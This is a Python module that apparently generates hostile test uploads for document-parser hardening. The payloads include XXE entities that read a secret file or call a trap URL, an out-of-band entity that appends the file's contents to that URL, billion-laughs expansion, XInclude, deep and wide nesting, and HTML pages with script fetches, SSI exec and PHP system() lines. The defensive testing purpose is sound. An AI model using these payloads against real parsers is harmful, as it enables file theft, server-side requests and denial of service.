"""XML and HTML: entities, depth, width, numbers that explode, pages that call home."""

import zipfile
from random import Random

from . import Trap, Upload, family
from .packed import W, document, docx, said


def _entity(trap: Trap, random: Random) -> str:
    """A document type declaration that reads the secret, calls home or grows without end."""
    lol = "".join(f"<!ENTITY l{n + 1} '{f'&l{n};' * 10}'>" for n in range(random.randint(5, 12)))
    return random.choice(
        (
            f"<!DOCTYPE x [<!ENTITY e SYSTEM '{trap.secret.as_uri()}'>]>",
            f"<!DOCTYPE x [<!ENTITY e SYSTEM '{trap.url}entity'>]>",
            f"<!DOCTYPE x SYSTEM '{trap.url}dtd'>",
            f"<!DOCTYPE x PUBLIC '-//W3C//DTD' '{trap.url}public'>",
            f"<!DOCTYPE x [<!ENTITY % p SYSTEM '{trap.url}parameter'> %p;]>",
            f"<!DOCTYPE x [<!ENTITY % f SYSTEM '{trap.secret.as_uri()}'><!ENTITY % o \"<!ENTITY e SYSTEM '{trap.url}?%f;'>\"> %o;]>",
            f"<!DOCTYPE x [<!ENTITY l0 'lol'>{lol}<!ENTITY e '&l5;'>]>",
            f"<!DOCTYPE x [<!ENTITY e '{'x' * random.randint(1000, 500_000)}'>]>",
            f"<!DOCTYPE x [<!ATTLIST x a CDATA '{'y' * 999}'><!ENTITY e 'z'>]>",
            f"<!doctype x [<!ENTITY e SYSTEM 'php://filter/resource={trap.secret}'>]>",
            f"<!DOCTYPE x [<!ENTITY e SYSTEM 'jar:{trap.url}a.jar!/b'>]>",
        )
    )


@family
def entity_in_the_document(trap: Trap, random: Random) -> Upload:
    body = said("正文&e;") * random.randint(1, 500)
    return "实体.docx", docx({"word/document.xml": document(body, _entity(trap, random))})


@family
def entity_in_an_attribute(trap: Trap, random: Random) -> Upload:
    body = f"<w:p w:x='&e;{'&e;' * random.randint(1, 200)}'/>" + said("正文")
    return "属性.docx", docx({"word/document.xml": document(body, _entity(trap, random))})


@family
def entity_in_another_encoding(trap: Trap, random: Random) -> Upload:
    encoding = random.choice(
        ("utf-16", "utf-16-le", "utf-16-be", "utf-7", "gb18030", "utf-32", "cp037")
    )
    declared = f"<?xml version='1.0' encoding='{encoding}'?>"
    text = document(said("正文&e;"), declared + _entity(trap, random))
    return "编码.docx", docx({"word/document.xml": text.encode(encoding, "replace")})


@family
def entity_in_a_side_part(trap: Trap, random: Random) -> Upload:
    part = random.choice(("numbering", "styles", "footnotes", "endnotes"))
    cited = "<w:p><w:r><w:t>正文</w:t><w:footnoteReference w:id='2'/><w:endnoteReference w:id='2'/></w:r></w:p>"
    side = f"{_entity(trap, random)}<w:{part} xmlns:w='{W}'><w:footnote w:id='2'>{said('&e;')}</w:footnote></w:{part}>"
    return "旁支.docx", docx({"word/document.xml": document(cited), f"word/{part}.xml": side})


@family
def inclusion(trap: Trap, random: Random) -> Upload:
    target = random.choice((trap.secret.as_uri(), f"{trap.url}include"))
    include = (
        f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='{target}'/>"
    )
    style = f"<?xml-stylesheet type='text/xsl' href='{trap.url}style.xsl'?>"
    return "包含.docx", docx({"word/document.xml": document(said("正文") + include, style)})


@family
def depth(trap: Trap, random: Random) -> Upload:
    deep = random.randint(100, 200_000)
    before, after = random.choice(
        (
            ("<w:sdt>", "</w:sdt>"),
            ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
            ("<w:p>", "</w:p>"),
            ("<w:x>", ""),
        )
    )
    return "深.docx", docx(
        {"word/document.xml": document(before * deep + said("底") + after * deep)}
    )


@family
def width(trap: Trap, random: Random) -> Upload:
    many = random.randint(100_000, 2_500_000)
    piece = random.choice(("<w:p/>", "<w:tc/>", said(""), "<w:tbl><w:tr/></w:tbl>", "<a/>"))
    return "宽.docx", docx(
        {"word/document.xml": document((piece * many)[: 22 << 20].rpartition("<")[0])}
    )


@family
def huge_attributes(trap: Trap, random: Random) -> Upload:
    long = f"<w:p w:a='{'x' * random.randint(1 << 20, 20 << 20)}'/>"
    names = " ".join(f"a{n}='1'" for n in range(random.randint(1000, 200_000)))
    many = f"<w:p {names}/>"
    return "属性多.docx", docx(
        {"word/document.xml": document(random.choice((long, many)) + said("正文"))}
    )


@family
def numbers_that_explode(trap: Trap, random: Random) -> Upload:
    mark = random.choice(
        ("x" * random.randint(1000, 4_000_000), "%1%2%3" * random.randint(10, 200_000))
    )
    start = random.choice(("999999", "-1", "1e9", "9" * 4000, "٣"))
    style = random.choice(("chineseCounting", "lowerLetter", "upperRoman", "nothing", "decimal"))
    numbering = (
        f"<w:numbering xmlns:w='{W}'><w:abstractNum w:abstractNumId='0'><w:lvl w:ilvl='0'><w:start w:val='{start}'/><w:numFmt w:val='{style}'/>"
        f"<w:lvlText w:val='{mark}'/></w:lvl></w:abstractNum><w:num w:numId='1'><w:abstractNumId w:val='0'/></w:num></w:numbering>"
    )
    line = "<w:p><w:pPr><w:numPr><w:ilvl w:val='0'/><w:numId w:val='1'/></w:numPr></w:pPr><w:r><w:t>项</w:t></w:r></w:p>"
    return "编号.docx", docx(
        {
            "word/document.xml": document(line * random.randint(10, 20_000)),
            "word/numbering.xml": numbering,
        }
    )


@family
def styles_that_chase_their_tails(trap: Trap, random: Random) -> Upload:
    count = random.randint(1, 3000)
    styles = "".join(
        f"<w:style w:styleId='s{n}'><w:basedOn w:val='s{(n + 1) % count}'/></w:style>"
        for n in range(count)
    )
    spans = f"<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='{random.choice(('999999999', '-5', 'x', '64'))}'/></w:tcPr>{said('格')}</w:tc><w:tc>{said('乙')}</w:tc></w:tr></w:tbl>"
    body = "<w:p><w:pPr><w:pStyle w:val='s0'/></w:pPr><w:r><w:t>正文</w:t></w:r></w:p>" + spans
    return "样式.docx", docx(
        {
            "word/document.xml": document(body),
            "word/styles.xml": f"<w:styles xmlns:w='{W}'>{styles}</w:styles>",
        }
    )


@family
def notes_that_cite_themselves(trap: Trap, random: Random) -> Upload:
    cite = "<w:p><w:r><w:t>注</w:t><w:footnoteReference w:id='2'/></w:r></w:p>"
    notes = f"<w:footnotes xmlns:w='{W}'><w:footnote w:id='2'>{cite * random.randint(1, 2000)}</w:footnote></w:footnotes>"
    return "注.docx", docx(
        {"word/document.xml": document(cite * random.randint(1, 2000)), "word/footnotes.xml": notes}
    )


@family
def odt_with_an_entity(trap: Trap, random: Random) -> Upload:
    import io

    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_STORED) as package:
        package.writestr(
            "mimetype",
            "application/vnd.oasis.opendocument.text"
            if random.random() < 0.3
            else "application/epub+zip",
        )
        package.writestr("content.xml", _entity(trap, random) + "<x>&e;</x>")
    return "实体.odt", held.getvalue()


@family
def page_that_calls_home(trap: Trap, random: Random) -> Upload:
    tag = random.choice(
        (f"<script src='{trap.url}s.js'></script><script>fetch('{trap.url}')</script>", f"<iframe src='{trap.secret.as_uri()}'></iframe>",
         f"<meta http-equiv=refresh content='0;url={trap.url}'>", f"<base href='{trap.url}'><img src=x onerror=alert(1)>",
         f"<link rel=stylesheet href='{trap.url}'><style>@import '{trap.url}'</style>", f"<object data='{trap.secret.as_uri()}'></object>",
         f"<!--#include file='{trap.secret}'--><!--#exec cmd='touch {trap.folder}/ssi'-->", f"<?php system('touch {trap.folder}/php') ?>")
    )  # fmt: skip
    return (
        "网页.html",
        f"<!DOCTYPE html><html><body>{tag}<p>正文{random.random()}</p></body></html>".encode(),
    )


@family
def page_with_a_strange_charset(trap: Trap, random: Random) -> Upload:
    charset = random.choice(
        (
            "idna",
            "punycode",
            "utf-7",
            "unicode_escape",
            "undefined",
            "zlib_codec",
            "rot13",
            "hex",
            "mbcs",
            "x" * 19,
            "cp037",
            "raw_unicode_escape",
        )
    )
    body = random.randbytes(random.randint(10, 90_000)) + b"xn--\\u0041+AGE-" * 3000
    return "字符集.html", f"<html><head><meta charset='{charset}'></head><body><p>".encode() + body


@family
def page_without_bottom(trap: Trap, random: Random) -> Upload:
    tag = random.choice(("div", "table", "ol><li", "b", "pre", "font", "a href=x", "p", "td"))
    return "无底.html", b"<html><body>" + f"<{tag}>".encode() * random.randint(1000, 900_000) + b"x"


@family
def page_with_strange_characters(trap: Trap, random: Random) -> Upload:
    codes = "".join(
        f"&#{random.choice((0, 8, 0xD800, 0xFFFF, 0x110000, 10**20, 0x202E, -1))};"
        for _ in range(random.randint(1, 3000))
    )
    return (
        "字符.html",
        f"<html><body><p>{codes}{'&nbsp' * 999}正文\x00\x1b[2J</p><p a='{'y' * random.randint(1, 9 << 20)}'>尾</p>".encode(),
    )
